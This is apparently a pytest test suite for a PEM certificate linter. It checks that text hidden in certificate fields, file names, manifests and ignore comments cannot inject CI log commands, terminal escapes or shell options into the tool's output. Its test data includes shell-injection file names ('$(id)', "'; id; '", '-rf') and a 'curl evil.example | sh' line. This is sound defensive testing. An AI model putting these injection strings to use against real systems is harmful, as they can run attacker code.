"""From the bytes of a certificate and the name of a file to the parser of the consumer: nobody is given an order."""

from __future__ import annotations

import json
import re
from datetime import timedelta
from typing import TYPE_CHECKING, Any

import pytest

from pemlint.cli import main
from tests import builder, project
from tests.consumers import logs
from tests.consumers.orders import ORDERS
from tests.consumers.table import CONSUMERS
from tests.e2e.everything import Everything

if TYPE_CHECKING:
    from pathlib import Path

#: names that a file can have; those that begin with a hyphen are options to whoever does not look
NAMES = (
    *(text.replace("/", "_").replace("\0", "") for text in ORDERS if text.isprintable() or "\n" in text),
    *(
        "--config=x",
        "-",
        "--",
        "-rf",
        "--output-file=y",
        "a\nb",
        "a\n    curl evil.example | sh\n",
        "'; id; '",
        "$(id)",
    ),
)
#: the orders that a format is made of
OWN = {
    "github": {("github", "error"), ("github", "warning"), ("github", "notice")},
    "azure": {("azure", "task.logissue")},
}
#: the first line of a finding in what people read
FINDING = re.compile(r"^(?!  [|=]).+?:\d+:\d+: (?:error|warning|note) [a-z0-9-]+ ", re.MULTILINE)
EXPIRED = builder.self_signed(not_after=builder.NOW - timedelta(days=1)).pem
MANIFEST = """[bundle]
name = {name}
certificate = "absent.crt"
private-key = {name}
hosts = [{name}]
"""


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.fixture
def said(monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]) -> Everything:
    return Everything(monkeypatch, capfd)


def understood(said: Everything, *arguments: str) -> dict[str, list[Any]]:
    """What each consumer makes of each output of a run, none of which gives an order."""
    text = said.said("--isolated", *arguments)
    err = re.findall(r"^pemlint: .*$", text, re.MULTILINE)
    for name, outputs in {**said.written, "standard error": err}.items():
        for output in outputs:
            assert {order[:2] for order in logs.runners(output)} <= OWN.get(name, set()), name
            assert logs.terminal(output) == [], name
    return {name: [read(output) for output in said.written[name]] for name, read in CONSUMERS.items()}


def one_result_each(said: Everything) -> None:
    """Every format that tells findings tells the same number of them."""
    (report,), (log,) = said.written["json"], said.written["sarif"]
    found = len(json.loads(report)["findings"])
    assert found == len(json.loads(log)["runs"][0]["results"])
    for name in ("text", "concise"):
        (output,) = said.written[name]
        assert len(FINDING.findall(output)) == found


def test_names_in_certificates(folder: Path, said: Everything) -> None:
    ca = builder.root(subject=(("O", "##[group]x"), ("CN", "::error::x\n::error::y")))
    for number, text in enumerate(ORDERS):
        plain = text.encode("utf-8", "replace").decode()
        alternative = [plain.encode("ascii", "replace").decode(), f"URI:{plain!a}", f"email:{plain!a}"]
        made = builder.server(issuer=ca, subject=(("OU", plain), ("CN", plain)), alternative_names=alternative)
        comment = b"# " + plain.encode().replace(b"\n", b"\n# ") + b"\n"
        (folder / f"{number}.pem").write_bytes(comment + made.pem)
    (folder / "ca.pem").write_bytes(ca.pem)
    understood(said, "--now", "2120-01-01", ".")
    one_result_each(said)


def test_names_of_files(folder: Path, said: Everything) -> None:
    for name in NAMES:
        (folder / f"{name}.pem").write_bytes(b"\xef\xbb\xbf" + builder.server().pem)
        (folder / f"{name}.key").write_bytes(builder.private_pem("server", form="encrypted"))
    (folder / "\udcff\x1b[31m.pem").write_bytes(builder.root().pem)
    understood(said, ".")
    one_result_each(said)


def test_texts_in_manifests(folder: Path, said: Everything) -> None:
    for number, text in enumerate(ORDERS):
        written = json.dumps(text.encode("utf-8", "replace").decode())
        (folder / f"{number}.bundle.toml").write_text(MANIFEST.format(name=written), encoding="utf-8")
    understood(said, ".")
    one_result_each(said)


def test_texts_in_ignores(folder: Path, said: Everything) -> None:
    tables = []
    for number, text in enumerate(ORDERS):
        plain = text.encode("utf-8", "replace").decode()
        comment = f"# pemlint: ignore[{plain}, cert-expired] {plain}".replace("\n", " ").encode()
        (folder / f"{number}.pem").write_bytes(comment + b"\n" + EXPIRED)
        (folder / f"{number}.crt").write_bytes(EXPIRED)
        (folder / f"{number}.key").write_bytes(comment.replace(b"ignore", b"") + b"\n" + builder.public_pem("server"))
        reason = json.dumps(f"x{plain}", ensure_ascii=False).replace("\x7f", "\\u007f")
        tables.append(f"[[ignore]]\npaths = '{number}.crt'\nreason = {reason}\n")
    (folder / "pemlint.toml").write_text("\n".join(tables), encoding="utf-8")
    for arguments in ((), ("--show-suppressed",)):
        said.said(*arguments, ".", only=["check"])
        for name, outputs in said.written.items():
            for output in outputs:
                assert {order[:2] for order in logs.runners(output)} <= OWN.get(name, set()), name
                assert logs.terminal(output) == [], name
        if not arguments:
            one_result_each(said)


def test_a_command_in_a_help_is_one_command(folder: Path, said: Everything) -> None:
    """Who copies what a help offers runs the program that it names, with that file, and nothing else."""
    for name in NAMES:
        (folder / f"{name}.pem").write_bytes(b"\xef\xbb\xbf" + builder.server().pem)
        (folder / f"{name}.key").write_bytes(builder.private_pem("server", form="encrypted"))
    said.said("--isolated", "--select", "pem-byte-order-mark,key-encrypted", ".", only=["check"])
    helps = [each["help"] for each in json.loads(said.written["json"][0])["findings"]]
    commands = [line.strip() for help_ in helps for line in help_.split("\n")[1:]]
    assert len(commands) == len(helps) > len(NAMES)
    files = {path.name for path in folder.iterdir()}
    for command, read in zip(commands, _words(commands), strict=True):
        program, *arguments = read
        assert (program, arguments[0]) in {("sed", "-i"), ("openssl", "pkey")}, command
        assert len(arguments) == {"sed": 3, "openssl": 5}[program], command
        named = arguments[2]
        assert named.removeprefix("./") in files, command
        assert not named.startswith("-"), command
    (text,) = said.written["text"]
    offered = re.findall(r"^  \| {9}(\w+) ", text, re.MULTILINE)
    assert offered == [command.split()[0] for command in commands]


def _words(commands: list[str]) -> list[list[str]]:
    """Of each command, the words that a shell makes of it."""
    between = "next-command"
    read: list[list[str]] = [[]]
    for word in project.words(f" {between} ".join(commands)):
        if word == between:
            read.append([])
        else:
            read[-1].append(word)
    return read


@pytest.mark.parametrize(
    "name", ["--config=x", "-", "--", "-rf", "--output-file=y", "a\nb", "::error::x", "##[error]x"]
)
def test_any_name_is_a_file_behind_two_hyphens(folder: Path, capfd: pytest.CaptureFixture[str], name: str) -> None:
    (folder / f"{name}.pem").write_bytes(builder.server().pem.replace(b"M", b"*", 1))
    assert main(["check", "--isolated", "--output-format", "json", "--", f"{name}.pem"]) == 1
    (finding,) = (each for each in json.loads(capfd.readouterr().out)["findings"] if each["rule"].startswith("pem"))
    assert finding["path"] == f"{name}.pem"
    assert list(folder.iterdir()) == [folder / f"{name}.pem"]
